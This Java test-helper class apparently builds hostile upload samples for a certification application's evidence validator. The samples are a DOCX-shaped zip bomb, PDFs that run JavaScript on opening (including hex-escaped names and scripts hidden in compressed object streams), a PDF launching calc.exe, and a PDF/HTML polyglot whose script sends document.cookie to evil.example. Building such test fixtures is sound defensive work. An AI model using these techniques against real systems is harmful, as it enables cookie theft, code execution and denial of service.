package eu.skills4cities.citycert.application;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import com.lowagie.text.Document;
import com.lowagie.text.Paragraph;
import com.lowagie.text.pdf.PdfAction;
import com.lowagie.text.pdf.PdfIndirectReference;
import com.lowagie.text.pdf.PdfName;
import com.lowagie.text.pdf.PdfWriter;

/** Crafted evidence files that must never be accepted, built in the test (nothing is downloaded). */
public final class EvidenceBombs {

    private EvidenceBombs() {
    }

    /** A DOCX-shaped ZIP with the usual parts and one more that inflates to {@code inflated} zero bytes. */
    public static byte[] docxInflatingTo(long inflated) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.setLevel(Deflater.BEST_COMPRESSION);
            text(zip, "[Content_Types].xml",
                    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>");
            text(zip, "_rels/.rels", "<Relationships/>");
            text(zip, "word/document.xml",
                    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"/>");
            zip.putNextEntry(new ZipEntry("word/media/image1.bin"));
            byte[] zeros = new byte[1 << 20];
            for (long written = 0; written < inflated; written += zeros.length) {
                zip.write(zeros, 0, (int) Math.min(zeros.length, inflated - written));
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /** A hand-written PDF whose catalog runs JavaScript when it opens. */
    public static byte[] pdfWithOpenActionJavaScript() {
        return ascii("""
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
                3 0 obj << /Type /Action /S /JavaScript /JS (app.alert\\('hello'\\)) >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """);
    }

    /** The same with the names written in hex escapes, as {@code /J#61vaScript} is {@code /JavaScript}. */
    public static byte[] pdfWithHexEscapedJavaScriptName() {
        return ascii("""
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
                3 0 obj << /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> endobj
                trailer << /Root 1 0 R >>
                %%EOF
                """);
    }

    /** A PDF header, then a web page: a browser sniffing it would run the script. */
    public static byte[] pdfHtmlPolyglot() {
        return ascii("""
                %PDF-1.4
                1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj
                2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj
                % <html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>
                trailer << /Root 1 0 R >>
                %%EOF
                """);
    }

    /**
     * A real PDF written by OpenPDF that runs JavaScript on opening. Hidden: the action is an
     * object of its own, packed into a compressed object stream, so neither {@code /JS} nor the
     * script is in the file's raw bytes.
     */
    public static byte[] openPdfWithJavaScript(boolean hidden) {
        if (!hidden) {
            return openPdf((writer, document) -> writer.setOpenAction(PdfAction.javaScript("app.alert('hello');", writer)));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Document document = new Document();
        PdfWriter writer = PdfWriter.getInstance(document, out);
        writer.setFullCompression();
        document.open();
        document.add(new Paragraph("Portfolio of a smart city project manager."));
        try {
            PdfIndirectReference action = writer.addToBody(PdfAction.javaScript("app.alert('hello');", writer))
                    .getIndirectReference();
            writer.getExtraCatalog().put(PdfName.OPENACTION, action);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        document.close();
        return out.toByteArray();
    }

    /** A real PDF written by OpenPDF whose opening launches a program. */
    public static byte[] openPdfWithLaunchAction() {
        return openPdf((writer, document) -> writer.setOpenAction(new PdfAction("calc.exe", null, null, null)));
    }

    /** An ordinary PDF written by OpenPDF, with compressed streams and object streams. */
    public static byte[] openPdfPlain() {
        return openPdf((writer, document) -> writer.setFullCompression());
    }

    /** Text in UTF-16LE with its byte order mark. */
    public static byte[] utf16LeWithBom(String text) {
        byte[] body = text.getBytes(StandardCharsets.UTF_16LE);
        byte[] withBom = new byte[body.length + 2];
        withBom[0] = (byte) 0xFF;
        withBom[1] = (byte) 0xFE;
        System.arraycopy(body, 0, withBom, 2, body.length);
        return withBom;
    }

    private interface Setup {
        void apply(PdfWriter writer, Document document);
    }

    private static byte[] openPdf(Setup setup) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Document document = new Document();
        PdfWriter writer = PdfWriter.getInstance(document, out);
        setup.apply(writer, document);
        document.open();
        document.add(new Paragraph("Portfolio of a smart city project manager."));
        document.close();
        return out.toByteArray();
    }

    private static void text(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }
}
